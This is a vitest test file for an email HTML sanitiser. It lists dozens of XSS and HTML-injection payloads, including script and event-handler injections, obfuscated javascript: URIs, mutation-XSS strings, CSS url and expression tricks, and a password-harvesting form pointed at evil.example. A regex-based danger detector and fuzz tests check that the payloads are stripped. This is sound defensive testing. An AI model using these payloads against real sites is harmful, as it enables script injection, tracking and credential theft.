import { describe, expect, test } from 'vitest'
import { sanitiseMailHtml } from './sanitise.ts'

const clean = (html: string): string => sanitiseMailHtml(html, { inlineImage: () => null }).html

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" src=y>',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x.gif)">x</div>',
  '<div style="background-image:url(\'https://evil.example/x.gif\')">x</div>',
  '<div style="color:red;background:u\\72l(https://evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<body background="https://evil.example/x.gif" onload=alert(1)>x</body>',
  '<table background="https://evil.example/x.gif"><tr><td background="https://evil.example/y.gif">x</td></tr></table>',
  '<video poster="https://evil.example/x.gif"><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<img srcset="https://evil.example/x.gif 2x">',
  '<picture><source srcset="https://evil.example/x.gif"></picture>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p id="app" name="x" class="y" data-x="1">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a id=x tabindex=1 onbeforecopy=alert(1)>x</a>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '<a ping="https://evil.example" href="https://ok.example">x</a>',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<x onclick=alert(1)>x</x>',
]

/** What must not come out, whatever went in: looked for in tags, not in text. */
function dangers(html: string): string[] {
  const tags = html.replaceAll(/ (title|alt)="[^"]*"/g, '').match(/<[^>]*>/g) ?? []
  return tags.filter(
    (tag) =>
      /^<\/?(script|iframe|object|embed|form|input|button|meta|link|base|style|svg|math|video|audio|source|picture|template|textarea|noscript|title|xmp|plaintext|body|isindex|marquee|details)\b/i.test(
        tag,
      ) ||
      /\son\w+\s*=/i.test(tag) ||
      /(javascript|vbscript)\s*:/i.test(tag) ||
      /\s(srcset|background|ping|poster|id|name|class|data-\w+|formaction|action)\s*=/i.test(tag) ||
      /style="[^"]*(url|expression|position|binding|behavior|image)/i.test(tag) ||
      (/^<img/i.test(tag) && /src="(?!\/|data:image\/(png|jpe?g|gif|webp);)/i.test(tag)) ||
      (/^<a\b/i.test(tag) &&
        /href=/i.test(tag) &&
        !/href="(https?:\/\/|mailto:)[^"]*" rel="noopener noreferrer nofollow" target="_blank"/i.test(tag)),
  )
}

describe('HTML of mails', () => {
  test.each(attacks)('%s', (attack) => {
    expect(dangers(clean(attack))).toEqual([])
  })

  test('the test sees a danger when there is one', () => {
    expect(attacks.filter((attack) => dangers(attack).length > 0).length).toBeGreaterThan(
      attacks.length * 0.9,
    )
  })

  test('attacks cut, joined and nested at random', () => {
    let seed = 20_261_123
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0
      return seed % below
    }
    for (let round = 0; round < 3000; round++) {
      const pieces = Array.from({ length: 1 + random(4) }, () => {
        const attack = attacks[random(attacks.length)] ?? ''
        const from = random(attack.length)
        return random(3) === 0 ? attack : attack.slice(from, from + 1 + random(attack.length))
      })
      const html = pieces.join(['', '<', '>', '"', "'", '<!--', '-->', '<p title="', '</'][random(9)])
      expect({ html, dangers: dangers(clean(html)) }).toEqual({ html, dangers: [] })
    }
  })

  test('cleaning twice changes nothing', () => {
    for (const attack of attacks) expect(clean(clean(attack))).toBe(clean(attack))
  })

  test('pictures from elsewhere are counted and left out, own ones shown', () => {
    const { html, blockedImages } = sanitiseMailHtml(
      '<img src="https://tracker.example/a.gif"><img src="//t.example/b"><img src="cid:logo%40x" alt="Logo"><img src="cid:other">',
      { inlineImage: (cid) => (cid === 'logo@x' ? '/api/tickets/1/attachments/0' : 'https://evil.example') },
    )
    expect(blockedImages).toBe(2)
    expect(html).toBe('<img /><img /><img alt="Logo" src="/api/tickets/1/attachments/0" /><img />')
  })

  test('what a letter needs stays', () => {
    const letter =
      '<h1>Angebot</h1><p style="color:#333;font-weight:bold">Guten Tag,</p><table border="1"><tr><td colspan="2">Brille</td></tr></table><ul><li>eins</li></ul>'
    expect(clean(letter)).toBe(letter)
    expect(clean('<a href="https://ipro.de/?a=1&amp;b=2">ipro</a>')).toBe(
      '<a href="https://ipro.de/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">ipro</a>',
    )
  })

  test('a very deep and a very long one end', () => {
    expect(dangers(clean('<div>'.repeat(20_000) + '<script>x</script>'))).toEqual([])
    expect(clean(`<p>${'x'.repeat(5_000_000)}`).length).toBeLessThan(2_100_000)
  })
})
